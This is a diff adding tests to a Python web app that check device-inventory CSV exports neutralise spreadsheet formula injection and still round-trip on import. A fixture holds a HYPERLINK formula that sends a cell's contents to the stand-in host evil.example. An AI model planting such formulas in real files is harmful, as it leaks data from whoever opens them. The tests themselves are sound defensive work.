@@ -126,7 +126,7 @@ def test_export_then_import_round_trips(app, tmp_path):
     assert runner.invoke(args=["devices", "import", str(path)]).exit_code == 0
     first = tmp_path / "first.csv"
     assert runner.invoke(args=["devices", "export", str(first)]).exit_code == 0
-    rows = list(csv.reader(first.read_text(encoding="utf-8").splitlines()))
+    rows = list(csv.reader(first.read_text(encoding="utf-8-sig").splitlines()))
     assert rows[0] == list(bulk.COLUMNS)
     assert rows[1][0] == "UIT-00007" and rows[2][0] == "UIT-00008"
     assert rows[1][13] == "kras, klein"
@@ -157,6 +157,56 @@ def test_export_page_streams_the_same_columns(client, login_as):
     db.session.commit()
     response = client.get("/devices/export.csv")
     assert response.status_code == 200
-    rows = list(csv.reader(response.get_data(as_text=True).splitlines()))
+    rows = list(csv.reader(response.get_data(as_text=True).lstrip("\ufeff").splitlines()))
     assert rows[0] == list(bulk.COLUMNS)
     assert rows[1][:5] == ["UIT-00001", "laptop", "Acer", "Swift 3", "NXH1"]
+
+
+# Text a spreadsheet would run as a formula (OWASP CSV injection), one per field.
+FORMULAS = {
+    "make": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "model": "@SUM(1)",
+    "condition_notes": "+1",
+    "notes": "-1",
+}
+
+
+def formula_device():
+    make_device(serial="=1+1", **FORMULAS)
+    db.session.commit()
+
+
+def assert_neutralised(rows: list[list[str]]) -> None:
+    header, row = rows[0], rows[1]
+    for field, value in FORMULAS.items():
+        assert row[header.index(field)] == "'" + value, field
+    assert row[header.index("serial")] == "'=1+1"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
+
+
+def test_export_page_neutralises_formulas(client, login_as):
+    login_as("volunteer")
+    formula_device()
+    response = client.get("/devices/export.csv")
+    assert response.status_code == 200
+    assert response.get_data().startswith(b"\xef\xbb\xbf")  # the same writer as the reports
+    assert_neutralised(list(csv.reader(io.StringIO(response.get_data(as_text=True)[1:]))))
+
+
+def test_export_command_neutralises_formulas_and_import_reads_them_back(app, tmp_path):
+    formula_device()
+    runner = app.test_cli_runner()
+    out = tmp_path / "devices.csv"
+    assert runner.invoke(args=["devices", "export", str(out)]).exit_code == 0
+    assert_neutralised(list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline=""))))
+    stdout = runner.invoke(args=["devices", "export"])
+    assert_neutralised(list(csv.reader(io.StringIO(stdout.output.lstrip("\ufeff")))))
+
+    # The apostrophe is the export's, not the data's: a round trip gives the values back.
+    from tests.conftest import empty_all_tables
+
+    empty_all_tables()
+    assert runner.invoke(args=["devices", "import", str(out)]).exit_code == 0
+    device = db.session.scalars(select(Device)).one()
+    assert {field: getattr(device, field) for field in FORMULAS} == FORMULAS
+    assert device.serial == "=1+1"
